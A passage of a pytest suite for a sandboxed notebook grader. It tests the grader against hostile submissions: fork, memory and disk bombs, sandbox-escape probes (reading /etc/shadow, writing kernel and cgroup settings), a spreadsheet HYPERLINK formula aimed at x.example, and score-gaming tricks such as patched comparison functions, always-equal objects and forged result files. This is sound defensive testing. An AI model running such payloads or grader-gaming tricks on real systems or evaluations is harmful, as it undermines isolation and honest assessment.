"""The batch grader against hostile and broken submissions.

Every submission below is made here, graded in its own child process, and must
get a clear status and exactly the score its honest answers earn, while the
batch always finishes. The cases that test the isolation itself (network,
files, processes, memory, time, crashes, the attacks of issue 19) run twice:
with bubblewrap when this machine has it, and without (``--no-bubblewrap``),
where the test states what the weaker isolation still guarantees. Assertions
are about outcomes (the honest answers keep their points; a cell is reported
as stopped for a limit), never about how long something took, so they hold on
a busy machine.
"""

import hashlib
import io
import json
import os
import re
import socket
import threading
import uuid
from pathlib import Path

import grading_fixtures as fx
import pytest

from course_grader.__main__ import main
from course_grader.batch import grade_all
from course_grader.sandbox import Limits, isolation

SOLUTION = str(Path(__file__).resolve().parents[2] / "solutions" / "01_gradient_descent.ipynb")


def _git_head():
    """The course's git HEAD (every version of the solutions is in that folder's objects)."""
    dot_git = Path(SOLUTION).parents[1] / ".git"
    if dot_git.is_file():  # a worktree: the objects are in the repository's common folder
        folder = dot_git.parent / dot_git.read_text().split(":", 1)[1].strip()
        common = folder / "commondir"
        dot_git = (folder / common.read_text().strip()) if common.exists() else folder
    return str(dot_git.resolve() / "HEAD")


HISTORY = _git_head()
LIMITS = Limits(cell_seconds=1, total_seconds=30, memory_bytes=2**30, disk_bytes=32 * 2**20)
ROOT = os.geteuid() == 0
FULL = 4.0  # q1 2 points, q2 1, q3 1

SETUP = ("from course_lib.grading import checker\ncheck = checker('zz_grading_selftest')\n"
         "import numpy as np")
Q1 = "def gd_step(theta, g, lr):\n    return theta - lr * g\ncheck('q1', gd_step)"
Q1_WRONG = "def gd_step(theta, g, lr):\n    return theta + lr * g"
Q2 = "def summary(values):\n    return float(np.mean(values)), float(np.max(np.abs(values)))"
Q3 = "def kappa(eigenvalues):\n    return eigenvalues.max() / eigenvalues.min()"
HONEST = [SETUP, Q1, Q2, Q3]


def notebook(*cells, exercise=fx.EXERCISE):
    metadata = {"course": {"exercise": exercise}} if exercise else {}
    return json.dumps({
        "nbformat": 4, "nbformat_minor": 5, "metadata": metadata,
        "cells": [{"cell_type": "code", "metadata": {}, "source": cell, "outputs": [],
                   "execution_count": None} for cell in cells]}).encode()


def honest_with(*hostile):
    """The honest answers with ``hostile`` cells between set-up and the answers."""
    return notebook(SETUP, *hostile, Q1, Q2, Q3)


FORK_BOMB = """
import os, time
forks, stopped = 0, None
for i in range(3000):
    try:
        pid = os.fork()
    except OSError as error:
        stopped = type(error).__name__
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    forks += 1
print("FORKS", forks, stopped)
"""

# Submissions whose isolation is under test: graded with and without bubblewrap.
ISOLATION_CASES = {
    "infinite_loop": honest_with("while True:\n    pass"),
    "sleep": honest_with("import time\ntime.sleep(10**6)"),
    "swallows_timeouts": honest_with(
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        pass"),
    "memory_bomb": honest_with("hog = []\nfor _ in range(40):\n    hog.append(bytearray(2**28))",
                               "import numpy\nhuge = numpy.ones((10**6, 10**6))"),
    "fork_bomb": honest_with(FORK_BOMB),
    "os_exit": honest_with("import os\nos._exit(0)"),
    "kills_itself": honest_with(
        "import os, signal\nprint('LAST WORDS')\nos.kill(os.getpid(), signal.SIGKILL)"),
    "segfault": honest_with("import ctypes\nctypes.string_at(0)"),
    "crash_in_answer": notebook(SETUP, Q1, "import os\ndef summary(values):\n    os._exit(3)", Q3),
    "prints_gigabytes": honest_with("for _ in range(100):\n    print('x' * 10**7)"),
    "network": honest_with(
        "import socket\ntry:\n    socket.create_connection(('127.0.0.1', PORT), timeout=2)"
        "\n    print('NETWORK-OPEN')\nexcept OSError as error:\n"
        "    print('NETWORK-BLOCKED', type(error).__name__)"),
    "raises_its_limits": honest_with(
        "import resource\ntry:\n    resource.setrlimit(resource.RLIMIT_AS, (-1, -1))\n"
        "    print('LIMIT-RAISED')\nexcept (ValueError, OSError) as error:\n"
        "    print('LIMIT-KEPT', error)"),
    # Files of 16 MiB (under the file-size limit) until the 32 MiB disk limit stops it.
    "fills_tmp": honest_with(
        "import tempfile, os\nfor i in range(1000):\n    with open(os.path.join("
        "tempfile.gettempdir(), f'f{i}'), 'wb') as f:\n        f.write(bytes(2**24))"),
    "fills_work_folder": honest_with(
        "for i in range(1000):\n    open(f'f{i}', 'wb').write(bytes(2**24))"),
    # A daemon in its own session, holding the output pipe: killed with the sandbox or the cgroup.
    "daemon": honest_with(
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execv('/bin/sleep', ['sleep', '293.5'])\n    os._exit(0)\ntime.sleep(0.2)"),
    "files_outside": honest_with(
        "try:\n    print('READ', open('SECRET').read())\n"
        "except OSError as error:\n    print('READ-BLOCKED', error)",
        "try:\n    open('PWNED', 'w').write('x')\n"
        "except OSError as error:\n    print('WRITE-BLOCKED', error)"),
}

# A name no other run on this machine uses, for what a child might leave behind.
TOKEN = f"course-grading-test-{uuid.uuid4().hex[:12]}"
SHM_KEY = int(TOKEN[-7:], 16)
SHARED_FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock")
STASHES = [os.path.join(folder, f"{TOKEN}-adam") for folder in SHARED_FOLDERS]  # see lesson_4

# The attacks of issue 19, each of which worked on the grader before it: graded in both
# configurations too.
ATTACKS = {
    # 6. Notes and memory left where they outlive the child (and a rerun or another submission
    # could read them): files in the folders any user may write, a System V shared memory
    # segment never removed.
    "leaves_notes": honest_with(
        "import ctypes, os\n"
        f"for folder in {SHARED_FOLDERS!r}:\n"
        "    try:\n"
        f"        open(os.path.join(folder, {TOKEN!r}), 'w').write('note')\n"
        "        print('NOTE-LEFT', folder)\n"
        "    except OSError as error:\n        print('NOTE-REFUSED', folder, error)\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"print('SHMGET', libc.shmget({SHM_KEY}, 2**20, 0o1000 | 0o600))"),
    # 1. Root in the sandbox writing the host kernel's settings (a same-value write).
    "writes_kernel_settings": honest_with(
        "import os\nprint('UID', os.getuid())\ntry:\n    path = '/proc/sys/kernel/core_pattern'\n"
        "    value = open(path).read()\n    open(path, 'w').write(value)\n"
        "    print('SYSCTL-WRITTEN')\n"
        "except OSError as error:\n    print('SYSCTL-BLOCKED', error)"),
    # 3. The result replaced by a FIFO before the child exits: the grader must not wait on it.
    "result_fifo": honest_with(
        "import os\nfor name in ('result.json', 'result.json.tmp'):\n"
        "    try:\n        os.remove(name)\n    except OSError:\n        pass\n"
        "    os.mkfifo(name)\nos._exit(0)"),
    # 4. Strings no encoder writes: a lone surrogate in an error and in an answer's message.
    "lone_surrogate": notebook(SETUP, "raise ValueError('\\ud800 \\x1b[2J')", Q1, Q2,
                               "def kappa(eigenvalues):\n    raise ValueError('\\udcff' * 10**6)"),
    # 5. The references and known mistakes fetched from the question registry, or read from
    # the questions' files, and the answers defined as them.
    "takes_the_references": notebook(
        SETUP, "from course_lib.grading import registry\n"
        "for q in registry.questions('01_gradient_descent'):\n"
        "    globals()[q.function] = q.reference",
        "import course_lib, os\nfolder = os.path.join(os.path.dirname(course_lib.__file__), "
        "'grading', 'questions')\nprint('QUESTIONS', sorted(os.listdir(folder)))",
        exercise="01_gradient_descent"),
    # 6. Memory no rlimit sees: memfd files, and three processes under the per-process limit.
    "memfd": honest_with("import os\nheld = []\ntry:\n    for i in range(36):\n"
                         "        fd = os.memfd_create('x')\n        os.write(fd, bytes(2**26))\n"
                         "        held.append(fd)\n    print('MEMFD-HELD', len(held))\n"
                         "except OSError as error:\n    print('MEMFD-BLOCKED', error)"),
    "forked_memory": honest_with(
        "import os, time\nchildren = []\nfor i in range(3):\n    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        block = bytearray(700 * 2**20)\n        for k in range(0, len(block), 4096):\n"
        "            block[k] = 1\n        os.write(1, b'CHILD-HELD-700-MIB\\n')\n"
        "        time.sleep(2)\n"
        "        os._exit(0)\n    children.append(pid)\n"
        "for pid in children:\n    os.waitpid(pid, 0)"),
    # Disk: a file unlinked while open, then written (64 MiB, under the 64 MiB file limit).
    "unlinked_file": honest_with(
        "import os\nf = open('hidden', 'wb')\nos.unlink('hidden')\nwritten = 0\ntry:\n"
        "    for _ in range(48):\n        f.write(bytes(2**20))\n        f.flush()\n"
        "        written += 1\n"
        "except OSError as error:\n    print('STOPPED', error)\nprint('UNLINKED-MIB', written)"),
    # A link to a folder in the work folder (the clean-up once stopped at it, as a non-root user).
    "links_a_folder": honest_with("import os\nos.symlink('/tmp', 'outside')\nos.mkdir('inside')\n"
                                  "os.symlink('../inside', 'inside/loop')"),
    "unreadable_folder": honest_with(
        "import os\nos.mkdir('locked')\nopen('locked/data', 'wb').write(bytes(2**20))\n"
        "os.chmod('locked', 0o300)"),
    # 7. Reaching out of the sandbox: the cgroups, other processes, /etc/shadow, the solutions.
    "reaches_out": honest_with(
        "import os, signal, glob\nfor path in glob.glob('/sys/fs/cgroup/*/cgroup.procs') + "
        "glob.glob('/sys/fs/cgroup/pids/course-grading-*/pids.max'):\n    try:\n"
        "        open(path, 'w').write('max' if path.endswith('max') else str(os.getpid()))\n"
        "        print('CGROUP-WRITTEN', path)\n    except OSError:\n        pass\n"
        # A process it may signal, alive (not a zombie: ended, not yet collected by its
        # parent), outside its own session: [state, session] from /proc/PID/stat.
        "def state_and_session(pid):\n    try:\n"
        "        return open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[0:4:3]\n"
        "    except OSError:\n        return ['gone', None]\n"
        "own_session = state_and_session('self')[1]\nothers = []\n"
        "for entry in os.listdir('/proc'):\n    if entry.isdigit():\n        try:\n"
        "            os.kill(int(entry), 0)\n        except OSError:\n            continue\n"
        "        state, session = state_and_session(entry)\n"
        "        if state not in ('Z', 'gone') and session != own_session:\n"
        "            others.append(int(entry))\n"
        "print('SIGNALLABLE-OTHERS', len(others))\n"
        "for path in ['/etc/shadow', SOLUTIONS, OTHER_SUBMISSION, HISTORY]:\n    try:\n"
        "        open(path, 'rb').read(1)\n        print('READ-OPEN', path)\n"
        "    except OSError as error:\n        print('READ-BLOCKED', type(error).__name__)"),
}

# Broken or tampering submissions: graded once (with bubblewrap when available).
OTHER_CASES = {
    "honest": honest_with(),
    "untouched": notebook(SETUP, *(f"def {name}(*args, **kwargs):\n    raise NotImplementedError"
                                   for name in ("gd_step", "summary", "kappa"))),
    "sys_exit": honest_with("import sys\nsys.exit(0)", "exit()"),
    "patches_numpy_and_grader": notebook(
        SETUP, Q1_WRONG,
        "np.allclose = lambda *a, **k: True\n"
        "np.isclose = lambda a, b, **k: np.ones(np.shape(b), bool)\n"
        "np.testing.assert_allclose = lambda *a, **k: None\n"
        "import course_lib.grading.compare as c, course_lib.grading.grade as g\n"
        "c.difference = lambda *a, **k: None\ng.difference = lambda *a, **k: None", Q2, Q3),
    "patches_builtins": notebook(
        SETUP, Q1_WRONG,
        "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.len = lambda x: 0",
        Q2, Q3),
    "fake_check_and_output": notebook(
        SETUP, "check = lambda *a: print('q1: 2/2 points — passed')", Q1_WRONG,
        "check('q1', gd_step)\nprint('q1: 2/2 points — passed')\nprint('TOTAL 4/4')", Q2, Q3),
    "always_equal": notebook(
        SETUP,
        "class Equal:\n    def __eq__(self, other):\n        return True\n"
        "    __array_priority__ = 1000\n"
        "def gd_step(theta, g, lr):\n    return Equal()", Q2, Q3),
    "ndarray_subclass": notebook(
        SETUP,
        "class Liar(np.ndarray):\n    def __eq__(self, other):\n"
        "        return np.ones(self.shape, bool)\n"
        "def gd_step(theta, g, lr):\n    return np.zeros_like(theta).view(Liar)", Q2, Q3),
    "hides_tracebacks": honest_with(
        "import sys, os\nsys.excepthook = lambda *a: None\n"
        "sys.stderr = open(os.devnull, 'w')\nraise ValueError('hidden')"),
    "fake_result_files": notebook(
        SETUP, Q1_WRONG, Q2, Q3,
        "import json, os\nfake = {'running': None, 'cells': [], 'questions': {'q1': {'outcomes': "
        "[{'value': 0.0}] * 4}, 'q2': {'outcomes': [{'value': {'pickle': 'x'}}] * 3}}}\n"
        "json.dump(fake, open('result.json', 'w'))\n"
        "open('grades.csv', 'w').write('file,score\\nfake_result_files.ipynb,4.0\\n')\n"
        "os._exit(0)"),
    "calls_reference": notebook(
        SETUP, Q1, Q2, "from course_lib.quadratic_rates import condition_number as cn\n"
        "def kappa(eigenvalues):\n    import sys\n    sys.setprofile(None)\n"
        "    return cn(eigenvalues)"),
    "calls_reference_in_a_thread": notebook(
        SETUP, Q1, Q2, "import importlib, threading\ndef kappa(eigenvalues):\n    out = []\n"
        "    f = getattr(importlib.import_module('course_lib.' + 'quadratic_rates'), "
        "'condition_' + 'number')\n"
        "    worker = threading.Thread(target=lambda: out.append(f(eigenvalues)))\n"
        "    worker.start()\n    worker.join()\n    return out[0]"),
    "thread_outlives_the_answers": honest_with(
        "import threading, time\nthreading.Thread(target=time.sleep, args=(1000,)).start()",
        "import atexit\natexit.register(lambda: open('result.json', 'w').write('{}'))"),
    # A cell nested 10⁴ deep fails to parse with RecursionError, in the child and in the grader.
    "unparseable_cell": honest_with("a." * 10**4 + "b"),
    "too_much_code": honest_with("x = 1\n" * 200_000),
    "answers_of_01_gradient_descent": honest_with(),  # its file name says another exercise
    "metadata_alone": honest_with(),  # its file name names no exercise
    # A wrong answer returning 1.5 million numbers (8 MB of JSON per case, 3 cases) is refused
    # alone: the result file stays readable, and the other answers count.
    "huge_wrong_answer": notebook(SETUP, Q1,
                                  "def summary(values):\n    return np.zeros(15 * 10**5)", Q3),
    # The answers computed in advance, in a cell, from the test cases found in the child's memory.
    "precomputes_answers": notebook(
        SETUP, Q1, Q2, "from course_lib.quadratic_rates import condition_number\nimport gc\n"
        "job = next(o for o in gc.get_objects() if type(o) is dict and 'skip_cells' in o)\n"
        "cache = {}\nfor spec in job['questions']:\n    for case in spec['cases']:\n"
        "        data = case['tuple'][0]['array']['data'] if spec['id'] == 'q3' else None\n"
        "        if data:\n            cache[tuple(data)] = condition_number(np.array(data))\n"
        "def kappa(eigenvalues):\n    return cache[tuple(eigenvalues.tolist())]"),
    "formula_as_exercise": notebook(*HONEST, exercise='=HYPERLINK("http://x.example/?"&A1)'),
    "calls_reference_by_attribute": notebook(
        SETUP, Q1, Q2, "import course_lib.quadratic_rates as quadratic_rates\n"
        "def kappa(eigenvalues):\n    return quadratic_rates.condition_number(eigenvalues)"),
    "invalid_json": b'{"nbformat": 4, "cells": [',
    "not_a_notebook": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "json_list": b"[1, 2, 3]",
    "empty": b"",
    "nbformat_3": json.dumps({"nbformat": 3, "nbformat_minor": 0,
                              "metadata": {"course": {"exercise": fx.EXERCISE}},
                              "worksheets": [{"cells": [{"cell_type": "code", "input": cell}
                                                        for cell in HONEST]}]}).encode(),
    "nbformat_5": json.dumps({"nbformat": 5, "cells": []}).encode(),
    "renamed_function": notebook(SETUP, Q1.replace("gd_step", "my_step"), Q2,
                                 Q3.replace("kappa", "condition")),
    "missing_functions": notebook(SETUP, Q2),
    "wrong_signatures": notebook(SETUP, "def gd_step(theta):\n    return theta", Q2,
                                 "def kappa():\n    return 1.0"),
    "duplicated_cells": notebook(SETUP, Q1_WRONG, Q1, Q1, Q2, Q2, Q3, SETUP),
    "unknown_magics": honest_with("%this_magic_does_not_exist 1", "%%bash\necho hi", "!ls /",
                                  "%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n"
                                  "%timeit -n 3 q = 1\n%time q = 2"),
    "non_utf8": honest_with("# caf\xe9").replace(b"caf\\u00e9", b"caf\xe9"),
    "syntax_error": honest_with("def broken(:\n    pass"),
    "changes_directory": honest_with("import os\nos.chdir('/')"),
    "reads_course_data": honest_with("from course_lib.data import load_digits\n"
                                     "assert load_digits().X_train.shape[1] == 64"),
}
# A fork bomb is only run where a process limit holds: a cgroup, or RLIMIT_NPROC for a non-root
# grader. As root without a cgroup nothing would stop it on this shared machine.
PROCESS_LIMIT = isolation(False).pids_cgroup or os.geteuid() != 0
if not PROCESS_LIMIT:
    del ISOLATION_CASES["fork_bomb"]


@pytest.fixture(scope="module")
def server():
    """A TCP server on 127.0.0.1 that records whether anything connected to it."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    connections, stop = [], threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept()[0])
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield listener.getsockname()[1], connections
    stop.set()
    thread.join()
    listener.close()


# File names that name no exercise of their own (the others end in __zz_grading_selftest, as
# a class's files name their exercise; a notebook whose metadata alone decides gets a warning).
NAMED_ALONE = {"answers_of_01_gradient_descent", "formula_as_exercise", "metadata_alone"}


def _write_submissions(folder, cases, port, outside):
    folder.mkdir()
    for name, content in cases.items():
        content = (content.replace(b"PORT", str(port).encode())
                   .replace(b"SOLUTIONS", repr(SOLUTION).encode())
                   .replace(b"HISTORY", repr(HISTORY).encode())
                   .replace(b"OTHER_SUBMISSION", repr(str(folder / "honest.ipynb")).encode())
                   .replace(b"SECRET", str(outside / "secret.txt").encode())
                   .replace(b"PWNED", str(outside / "pwned.txt").encode()))
        suffix = "" if name in NAMED_ALONE else f"__{fx.EXERCISE}"
        (folder / f"{name}{suffix}.ipynb").write_bytes(content)
    return {path.name: hashlib.sha256(path.read_bytes()).hexdigest() for path in folder.iterdir()}


def _grade(tmp_path_factory, server, cases, use_bubblewrap):
    from course_grader import sandbox

    base = tmp_path_factory.mktemp("bwrap" if use_bubblewrap else "plain")
    outside = base / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("TOP-SECRET")
    hashes = _write_submissions(base / "submissions", cases, server[0], outside)
    made = {"folders": [], "cgroups": []}  # what this grading creates
    make_workdir, new_cgroup = sandbox._make_workdir, sandbox._new_cgroup

    def recording_workdir(limits, uid):
        made["folders"].append(make_workdir(limits, uid))
        return made["folders"][-1]

    def recording_cgroup(root, settings):
        made["cgroups"].append(new_cgroup(root, settings))
        return made["cgroups"][-1]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sandbox, "_make_workdir", recording_workdir)
        patch.setattr(sandbox, "_new_cgroup", recording_cgroup)
        records = grade_all([base / "submissions"], base / "out", jobs=2, limits=LIMITS,
                            use_bubblewrap=use_bubblewrap, progress=io.StringIO())
    # A cgroup is removed only once no process is left in it (the uids are reused at once by
    # any other grading on the machine, so processes are counted through their cgroups).
    left = {"folders": [path for path in made["folders"] if os.path.lexists(path)],
            "cgroups": [path for path in made["cgroups"] if path and os.path.exists(path)],
            "made": bool(made["folders"]) and (not ROOT or bool(made["cgroups"]))}
    return {"records": {Path(r["file"]).stem.split("__")[0]: r for r in records}, "base": base,
            "hashes": hashes, "outside": outside, "left": left,
            "use_bubblewrap": isolation(use_bubblewrap).bubblewrap}


@pytest.fixture(scope="module")
def strong(tmp_path_factory, server):
    return _grade(tmp_path_factory, server, {**ISOLATION_CASES, **ATTACKS, **OTHER_CASES}, True)


@pytest.fixture(scope="module")
def plain(tmp_path_factory, server):
    return _grade(tmp_path_factory, server,
                  {**ISOLATION_CASES, **ATTACKS, "honest": OTHER_CASES["honest"]}, False)


@pytest.fixture(params=["bubblewrap", "no bubblewrap"])
def graded(request):
    if request.param == "bubblewrap" and not isolation(True).bubblewrap:
        pytest.skip("bubblewrap is not installed or cannot create a sandbox on this machine")
    return request.getfixturevalue("strong" if request.param == "bubblewrap" else "plain")


def scores(record):
    return {q["id"]: q["score"] for q in record["questions"]}


def status_of(record, qid):
    return next(q for q in record["questions"] if q["id"] == qid)


def test_the_isolation_in_use_is_recorded(graded):
    record = graded["records"]["infinite_loop"]
    assert record["isolation"].startswith(
        "bubblewrap" if graded["use_bubblewrap"] else "no bubblewrap")
    assert record["isolation"] in (graded["base"] / "out" / "grades.csv").read_text()


@pytest.mark.parametrize("name", ["infinite_loop", "sleep"])
def test_a_runaway_cell_is_stopped_and_the_rest_graded(graded, name):
    record = graded["records"][name]
    assert record["score"] == FULL and record["status"] == "out of time in cells 2"


def test_a_cell_that_swallows_the_time_limit_is_killed_and_skipped(graded):
    record = graded["records"]["swallows_timeouts"]
    assert record["score"] == FULL
    assert "cell 2 ignored the 1 s time limit; graded again without it" in record["status"]


def _stopped_for_a_limit(record, cell):
    """Whether cell ``cell`` (from 1) is reported as stopped by a limit: an error (MemoryError,
    no space left), out of time, or killed and skipped on a rerun."""
    state = record["cells"][cell - 1]
    return state["status"] in ("error", "timeout", "skipped") and state["error"]


def test_a_memory_bomb_hits_the_memory_limit(graded):
    record = graded["records"]["memory_bomb"]
    # What matters: the honest answers keep their points and both bombs are reported as
    # stopped (a MemoryError at once, or out of time when the machine is too busy to fill
    # 1 GiB within the 1 s cell limit).
    assert record["score"] == FULL
    assert _stopped_for_a_limit(record, 2) and _stopped_for_a_limit(record, 3)
    assert "MemoryError" in record["cells"][2]["error"]  # numpy.ones((10⁶, 10⁶)) is refused


@pytest.mark.skipif(not PROCESS_LIMIT, reason="grading as root without a pids cgroup: "
                    "no process limit applies, so the fork bomb is not run")
def test_a_fork_bomb_is_stopped_by_the_process_limit(graded):
    record = graded["records"]["fork_bomb"]
    assert record["score"] == FULL
    forks, stopped = record["output"].split("FORKS ")[1].split()[:2]
    # The bomb is bounded at 3000 forks; the cgroup's pids.max (or RLIMIT_NPROC) stops it first.
    assert stopped == "BlockingIOError" and int(forks) < LIMITS.processes


@pytest.mark.parametrize("name, how", [("os_exit", "exited (code 0)"),
                                       ("kills_itself", "was killed by SIGKILL"),
                                       ("segfault", "was killed by SIGSEGV")])
def test_a_cell_that_kills_the_process_is_skipped_on_a_rerun(graded, name, how):
    record = graded["records"][name]
    assert record["score"] == FULL
    assert record["status"].startswith(f"cell 2 {how}; graded again without it")
    assert record["cells"][1]["status"] == "skipped"


def test_what_a_cell_printed_before_crashing_the_process_is_kept(graded):
    cell = graded["records"]["kills_itself"]["cells"][1]
    assert cell == {"status": "skipped", "cell": 2,
                    "error": "was killed by SIGKILL; its last output: LAST WORDS"}


def test_an_answer_that_kills_the_process_scores_zero_alone(graded):
    record = graded["records"]["crash_in_answer"]
    assert scores(record) == {"q1": 2, "q2": 0, "q3": 1}
    assert "question q2 exited (code 3); graded again without it" in record["status"]
    assert "crashed the process" in status_of(record, "q2")["details"][0]


@pytest.mark.parametrize("name", ["fills_tmp", "fills_work_folder"])
def test_filling_the_disk_is_stopped(graded, name):
    record = graded["records"][name]
    # What matters: the honest answers keep their points and the cell is stopped by a limit;
    # on a machine too busy to write 32 MiB within the 1 s cell limit, that limit is time.
    assert record["score"] == FULL and _stopped_for_a_limit(record, 2)
    if record["status"] == "out of time in cells 2":
        return
    if ROOT:  # a tmpfs of 32 MiB: the write fails
        assert record["status"] == "errors in cells 2"
        assert "No space left on device" in record["cells"][1]["error"]
    else:  # the watch on the folder's size kills the child
        assert record["status"].startswith("cell 2 wrote more than 32 MiB of files; graded again")


def test_no_process_outlives_its_grading(graded):
    record = graded["records"]["daemon"]
    assert record["score"] == FULL
    if not (graded["use_bubblewrap"] or isolation(False).pids_cgroup):
        pytest.skip("no bubblewrap and no pids cgroup: a new session escapes the final kill")
    alive = [pid for pid in os.listdir("/proc") if pid.isdigit()
             and _cmdline(pid) == b"sleep\x00293.5\x00"]
    assert alive == []


def _cmdline(pid):
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def test_the_limits_cannot_be_raised_from_inside(graded):
    record = graded["records"]["raises_its_limits"]
    assert record["score"] == FULL and "LIMIT-KEPT" in record["output"]


def test_printing_gigabytes_is_cut(graded):
    record = graded["records"]["prints_gigabytes"]
    assert record["score"] == FULL
    # 1 GB is printed unless the 1 s cell limit stops it first; either way only 64 KiB are kept.
    cut = re.search(rf"output cut to {LIMITS.output_bytes} of (\d+) bytes", record["status"])
    assert cut and int(cut.group(1)) > LIMITS.output_bytes
    assert len(record["output"]) <= LIMITS.output_bytes


def test_no_network_even_to_localhost(graded, server):
    record = graded["records"]["network"]
    assert record["score"] == FULL and "NETWORK-BLOCKED" in record["output"]
    assert "NETWORK-OPEN" not in record["output"] and server[1] == []


def test_files_outside_the_work_folder(graded):
    record, outside = graded["records"]["files_outside"], graded["outside"]
    assert record["score"] == FULL
    if graded["use_bubblewrap"] or ROOT:  # root without bubblewrap: the child has a uid of its own
        assert "READ-BLOCKED" in record["output"] and "TOP-SECRET" not in record["output"]
        assert "WRITE-BLOCKED" in record["output"] and not (outside / "pwned.txt").exists()
    else:
        # Without bubblewrap only ordinary permissions protect other files (the grader runs as
        # this user); what still holds is that the grade comes from the parent alone and no
        # submission is modified, which test_submissions_are_never_modified checks.
        assert "READ" in record["output"]


def test_submissions_are_never_modified(graded):
    folder = graded["base"] / "submissions"
    assert {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()} \
        == graded["hashes"]


def test_honest_and_untouched_notebooks(strong):
    assert strong["records"]["honest"]["score"] == FULL
    assert strong["records"]["honest"]["status"] == "ok"
    untouched = strong["records"]["untouched"]
    assert untouched["score"] == 0
    assert {q["status"] for q in untouched["questions"]} == {"not implemented"}


@pytest.mark.parametrize("name", ["patches_numpy_and_grader", "patches_builtins",
                                  "fake_check_and_output", "always_equal", "ndarray_subclass"])
def test_tampering_in_the_child_cannot_raise_the_score(strong, name):
    record = strong["records"][name]
    assert scores(record)["q1"] == 0, record["questions"][0]
    assert record["score"] <= 2


def test_hidden_tracebacks_and_sys_exit_are_just_cell_errors(strong):
    assert strong["records"]["hides_tracebacks"]["score"] == FULL
    assert strong["records"]["hides_tracebacks"]["status"] == "errors in cells 2"
    record = strong["records"]["sys_exit"]
    assert record["score"] == FULL and record["status"] == "errors in cells 2, 3"
    assert record["cells"][1]["error"] == "SystemExit: 0"


def test_fake_result_files_earn_nothing(strong):
    record = strong["records"]["fake_result_files"]
    # Results come through a pipe the grader made: a result.json is just a file. q1 is wrong.
    assert scores(record) == {"q1": 0, "q2": 1, "q3": 1}
    assert "fake_result_files.ipynb,4.0" not in (strong["base"] / "out" / "grades.csv").read_text()


@pytest.mark.parametrize("name", ["calls_reference", "calls_reference_by_attribute",
                                  "calls_reference_in_a_thread"])
def test_calling_the_reference_scores_zero_with_the_reason(strong, name):
    record = strong["records"][name]
    assert scores(record) == {"q1": 2, "q2": 1, "q3": 0}
    q3 = status_of(record, "q3")
    assert q3["status"] == "forbidden" and "condition_number" in q3["details"][0]


def test_code_that_can_evade_the_watch_is_pointed_out(strong):
    assert strong["records"]["calls_reference"]["status"] == (
        "read cell 4: setprofile can get answers from course_lib unseen; "
        "q3 forbidden: calls condition_number")
    assert strong["records"]["calls_reference_in_a_thread"]["status"] == (
        "read cell 4: getattr, importlib, threading can get answers from course_lib unseen; "
        "q3 forbidden: calls course_lib.quadratic_rates.condition_number")
    assert strong["records"]["honest"]["status"] == "ok"


def test_answers_computed_in_advance_from_course_lib_are_pointed_out(strong):
    record = strong["records"]["precomputes_answers"]
    assert record["score"] == FULL  # the child alone cannot tell: the instructor is told
    assert record["status"] == ("read cell 4: course_lib's condition_number, gc, get_objects "
                                "can get answers from course_lib unseen")


def test_a_thread_or_atexit_handler_left_running_changes_nothing(strong):
    record = strong["records"]["thread_outlives_the_answers"]
    assert record["score"] == FULL
    assert record["status"] == "read cell 2: threading can get answers from course_lib unseen"
    assert record["status"].count(";") == 0  # no rerun: the child left without waiting for it


def test_names_chosen_by_learners_are_not_formulas_in_the_csv(strong):
    import csv

    rows = list(csv.reader((strong["base"] / "out" / "grades.csv").open()))
    cell = next(row[4] for row in rows if row[3].endswith("formula_as_exercise.ipynb"))
    assert cell == "'=HYPERLINK(\"http://x.example/?\"&A1)"
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)


@pytest.mark.parametrize("name, message", [
    ("invalid_json", "invalid notebook: not a notebook (invalid JSON"),
    ("not_a_notebook", "invalid notebook: not a notebook (invalid JSON"),
    ("json_list", "invalid notebook: not a notebook (no nbformat field)"),
    ("empty", "invalid notebook: empty file"),
    ("nbformat_5", "invalid notebook: nbformat 5 is not supported"),
])
def test_unreadable_files_score_zero_with_the_reason(strong, name, message):
    record = strong["records"][name]
    assert record["score"] == 0 and record["status"].startswith(message)


def test_an_enormous_wrong_answer_loses_only_its_own_points(strong):
    record = strong["records"]["huge_wrong_answer"]
    assert (scores(record) == {"q1": 2, "q2": 0, "q3": 1}
            and record["status"] == "q2 raised an error")
    assert "MB of data, more than the grader keeps" in status_of(record, "q2")["details"][0]


def test_a_cell_the_grader_cannot_parse_is_only_a_cell_error(strong):
    record = strong["records"]["unparseable_cell"]
    assert record["score"] == FULL and record["status"] == "errors in cells 2"
    record = strong["records"]["too_much_code"]
    assert record["score"] == 0
    assert record["status"] == "invalid notebook: its code cells hold more than 1 MB of code"


def test_metadata_and_file_name_naming_different_exercises_is_pointed_out(strong):
    alone = strong["records"]["metadata_alone"]
    assert alone["score"] == FULL and alone["exercise"] == fx.EXERCISE
    assert alone["status"] == (f"graded as {fx.EXERCISE} from the notebook's metadata alone (the "
                               "file name names no exercise; --exercise decides for a folder)")
    record = strong["records"]["answers_of_01_gradient_descent"]
    assert record["score"] == FULL and record["exercise"] == fx.EXERCISE
    assert record["status"] == (f"graded as {fx.EXERCISE} (the notebook's metadata) but the file "
                                "name says 01_gradient_descent")


def test_nbformat_3_and_non_utf8_notebooks_are_graded(strong):
    assert strong["records"]["nbformat_3"]["score"] == FULL
    record = strong["records"]["non_utf8"]
    assert record["score"] == FULL and "undecodable bytes were replaced" in record["notes"][0]


def test_renamed_missing_and_misdeclared_functions(strong):
    renamed = strong["records"]["renamed_function"]
    # q1's renamed function was passed to check(), so it is found; q3's was not.
